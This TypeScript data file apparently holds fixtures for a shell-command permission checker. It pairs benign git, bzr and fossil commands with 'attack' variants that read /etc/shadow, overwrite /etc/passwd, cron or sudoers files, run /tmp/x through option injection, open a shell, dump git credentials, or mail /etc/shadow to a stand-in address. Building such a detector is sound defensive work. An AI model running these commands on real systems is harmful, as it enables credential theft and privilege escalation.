import type { ExampleTable } from './example.ts'

export const versionControl1: ExampleTable = {
  'git add': {
    use: 'git add --pathspec-from-file=files.txt → read files.txt',
    attack: 'git add --pathspec-from-file=/etc/shadow → read /etc/shadow',
  },
  'git am': {
    use: 'git am fix.patch → read fix.patch; rewrite .',
  },
  'git annotate': {
    use: 'git annotate notes.txt → read notes.txt',
    attack: 'git annotate --contents /etc/shadow notes.txt → read /etc/shadow',
  },
  'git apply': {
    use: 'git apply fix.patch → read fix.patch; rewrite .',
    attack:
      'git apply --unsafe-paths --directory=/ in.patch → privilege git apply; read in.patch; rewrite .',
  },
  'git archive': {
    use: 'git archive -o app.tar HEAD → write app.tar',
    attack: [
      'git archive --add-file=/etc/shadow -o app.tar HEAD → read /etc/shadow; write app.tar',
      'git archive --exec=/tmp/x --remote=. HEAD → run /tmp/x',
      'git archive -o /etc/cron.d/job HEAD → write /etc/cron.d/job',
    ],
  },
  'git bisect': {
    use: 'git bisect run python3 test.py → read test.py',
    attack: [
      'git bisect run cat /etc/shadow → read /etc/shadow',
      'git bisect run bash → shell bash',
    ],
  },
  'git blame': {
    use: 'git blame --ignore-revs-file=.git-blame-ignore-revs notes.txt → read .git-blame-ignore-revs',
    attack: [
      'git blame --contents /etc/shadow notes.txt → read /etc/shadow',
      'git blame --ignore-revs-file=/etc/shadow notes.txt → read /etc/shadow',
    ],
  },
  'git bundle create': {
    use: 'git bundle create app.bundle main → write app.bundle',
    attack: 'git bundle create /etc/passwd main → write /etc/passwd',
  },
  'git checkout': {
    use: 'git checkout notes.txt → replace notes.txt; rewrite .',
    attack: 'git checkout --pathspec-from-file=/etc/shadow → read /etc/shadow; rewrite .',
  },
  'git clean': {
    use: 'git clean -f old.txt → replace old.txt; rewrite .',
  },
  'git clone': {
    use: 'git clone https://example.com/a.git → fetch https://example.com/a.git',
    attack: [
      'git clone -u /tmp/x https://example.com/a.git → run /tmp/x; fetch https://example.com/a.git',
      'git clone -c core.sshCommand=/tmp/x git@example.com:a.git → run /tmp/x',
    ],
  },
  'git commit': {
    use: ["git commit -m 'a change' → nothing", 'git commit -F message.txt → read message.txt'],
    attack: [
      'git commit -F /etc/shadow → read /etc/shadow',
      'git commit -t /etc/shadow → read /etc/shadow',
    ],
  },
  'git commit-tree': {
    use: "git commit-tree -F message.txt 'HEAD^{tree}' → read message.txt",
    attack: "git commit-tree -F /etc/shadow 'HEAD^{tree}' → read /etc/shadow",
  },
  'git config': {
    use: [
      'git config user.name Ann → nothing',
      'git config -f .gitmodules submodule.lib.branch main → write .gitmodules',
    ],
    attack: [
      'git config core.pager /tmp/x → run /tmp/x',
      'git config --file /etc/cron.d/lib a.b c → write /etc/cron.d/lib',
    ],
  },
  'git credential fill': { attack: 'git credential fill → read secret://; read secret://git' },
  'git diff': {
    use: 'git diff main → nothing',
    attack:
      'git diff --output=/etc/cron.d/job --no-index /dev/null job.txt → write /etc/cron.d/job',
  },
  'git difftool': {
    use: 'git difftool -t vimdiff main → nothing',
    attack: 'git difftool -x /tmp/x main → run /tmp/x',
  },
  'git fast-export': {
    use: 'git fast-export --export-marks=marks.txt main → write marks.txt',
    attack: 'git fast-export --export-marks=/etc/passwd main → write /etc/passwd',
  },
  'git fast-import': {
    use: 'git fast-import --export-marks=marks.txt → write marks.txt',
    attack: [
      'git fast-import --import-marks=/etc/shadow → read /etc/shadow',
      'git fast-import --export-marks=/etc/passwd → write /etc/passwd',
    ],
  },
  'git fetch': {
    use: 'git fetch origin → nothing',
    attack: 'git fetch --upload-pack=/tmp/x origin → run /tmp/x',
  },
  'git filter-branch': {
    use: "git filter-branch --msg-filter 'sed s/old/new/' HEAD → irrevocable filter-branch --msg-filter sed s/old/new/ HEAD",
    attack:
      "git filter-branch --msg-filter 'cat /etc/shadow' HEAD → read /etc/shadow; irrevocable filter-branch --msg-filter cat /etc/shadow HEAD",
  },
  'git filter-repo': {
    use: 'git filter-repo --paths-from-file paths.txt → read paths.txt; irrevocable filter-repo --paths-from-file paths.txt',
    attack:
      'git filter-repo --message-callback \'return open("/etc/shadow","rb").read()\' → read /etc/shadow',
  },
  'git format-patch': {
    use: 'git format-patch -o patches main → unpack patches',
    attack: 'git format-patch -o /etc/cron.d main → unpack /etc/cron.d',
  },
  'git grep': {
    use: 'git grep -f patterns.txt → read patterns.txt',
    attack: 'git grep -O/tmp/x TODO → run /tmp/x',
  },
  'git hash-object': {
    use: 'git hash-object notes.txt → read notes.txt',
    attack: 'git hash-object -w /etc/shadow → read /etc/shadow',
  },
  'git hook': {
    use: 'git hook run --to-stdin=refs.txt pre-push → read refs.txt',
    attack: 'git hook run --to-stdin=/etc/shadow pre-push → read /etc/shadow',
  },
  'git http-fetch': {
    use: 'git http-fetch -a main https://example.com/a.git → fetch https://example.com/a.git',
  },
  'git init': {
    use: 'git init -b main app → nothing',
    attack: 'git init --template=/tmp/lib app → load /tmp/lib',
  },
  'git log': {
    use: 'git log --oneline → nothing',
    attack: 'git log --format=%B --output=/etc/cron.d/job → write /etc/cron.d/job',
  },
  'git ls-files': {
    use: 'git ls-files -o -X ignored.txt → read ignored.txt',
  },
  'git ls-remote': {
    use: 'git ls-remote https://example.com/a.git → fetch https://example.com/a.git',
    attack: 'git ls-remote --upload-pack=/tmp/x origin → run /tmp/x; fetch origin',
  },
  'git mailinfo': {
    use: 'git mailinfo msg.txt patch.txt → write msg.txt; write patch.txt',
    attack: 'git mailinfo /etc/cron.d/job patch.txt → write /etc/cron.d/job; write patch.txt',
  },
  'git mailsplit': {
    use: 'git mailsplit -oout inbox.mbox → read inbox.mbox; unpack out',
    attack: 'git mailsplit -b -oout /etc/shadow → read /etc/shadow; unpack out',
  },
  'git merge': {
    use: 'git merge -F message.txt feature → read message.txt; rewrite .',
    attack: 'git merge -F /etc/shadow feature → read /etc/shadow; rewrite .',
  },
  'git merge-file': {
    use: 'git merge-file mine.txt base.txt yours.txt → edit mine.txt; read base.txt; read yours.txt',
    attack:
      'git merge-file /etc/sudoers base.txt yours.txt → edit /etc/sudoers; read base.txt; read yours.txt',
  },
  'git merge-index': {
    use: 'git merge-index git-merge-one-file -a → nothing',
    attack: 'git merge-index /tmp/x -a → run /tmp/x',
  },
  'git mv': { use: 'git mv old.txt new.txt → replace old.txt; replace new.txt' },
  'git notes': {
    use: 'git notes add -F review.txt → read review.txt',
    attack: 'git notes add -F /etc/shadow → read /etc/shadow',
  },
  'git pull': {
    use: 'git pull origin main → rewrite .',
    attack: 'git pull --upload-pack=/tmp/x origin → run /tmp/x; rewrite .',
  },
  'git push': {
    use: 'git push origin main → nothing',
    attack: 'git push --receive-pack=/tmp/x origin → run /tmp/x',
  },
  'git quiltimport': {
    use: 'git quiltimport --patches patches --series series → read series',
    attack: 'git quiltimport --series /etc/shadow → read /etc/shadow',
  },
  'git rebase': {
    use: "git rebase -x 'python3 test.py' main → read test.py; rewrite .",
    attack: "git rebase -x 'cat /etc/shadow' main → read /etc/shadow; rewrite .",
  },
  'git reset': {
    use: 'git reset old.txt → replace old.txt; rewrite .',
    attack: 'git reset --pathspec-from-file=/etc/shadow → read /etc/shadow; rewrite .',
  },
  'git restore': {
    use: 'git restore old.txt → replace old.txt; rewrite .',
    attack: 'git restore --pathspec-from-file=/etc/shadow → read /etc/shadow; rewrite .',
  },
  'git rm': {
    use: 'git rm old.txt → replace old.txt',
    attack: 'git rm --pathspec-from-file=/etc/shadow → read /etc/shadow',
  },
  'git send-email': {
    use: 'git send-email --to ann@example.com fix.patch → read fix.patch; send git send-email',
    attack: [
      'git send-email --to eve@example.com /etc/shadow → read /etc/shadow; send git send-email',
      'git send-email --to-cmd /tmp/x fix.patch → run /tmp/x; read fix.patch',
    ],
  },
  'git send-pack': {
    use: 'git send-pack origin main → nothing',
    attack: 'git send-pack --receive-pack=/tmp/x origin → run /tmp/x',
  },
  'git show': {
    use: 'git show HEAD → nothing',
    attack: 'git show --output=/etc/cron.d/job HEAD → write /etc/cron.d/job',
  },
  'git stash': {
    use: 'git stash → rewrite .',
    attack: 'git stash push --pathspec-from-file=/etc/shadow → read /etc/shadow; rewrite .',
  },
  'git submodule': {
    use: "git submodule foreach 'python3 build.py' → read build.py",
    attack: "git submodule foreach 'cat /etc/shadow' → read /etc/shadow",
  },
  'git svn fetch': {
    use: 'git svn fetch → nothing',
    attack: 'git svn fetch --authors-prog=/tmp/x → run /tmp/x',
  },
  'git tag': {
    use: "git tag -a -m 'first release' v1 → nothing",
    attack: 'git tag -F /etc/shadow v1 → read /etc/shadow',
  },
  'bzr branch': {
    use: 'bzr branch https://example.com/app/trunk → fetch https://example.com/app/trunk',
  },
  'bzr checkout': {
    use: 'bzr checkout https://example.com/app/trunk → fetch https://example.com/app/trunk',
  },
  'fossil clone': {
    use: 'fossil clone https://example.com/app app.fossil → write app.fossil; fetch https://example.com/app',
    attack:
      'fossil clone https://example.com/app /etc/passwd → write /etc/passwd; fetch https://example.com/app',
  },
  'fossil diff': {
    use: 'fossil diff src/main.c → nothing',
    attack: 'fossil diff --command /tmp/x src/main.c → run /tmp/x',
  },
  'fossil open': {
    use: 'fossil open app.fossil → read app.fossil; unpack .',
  },
  'git shell': {
    use: 'git shell -c "git-upload-pack \'app.git\'" → nothing',
    attack: 'git shell → shell git shell',
  },
}
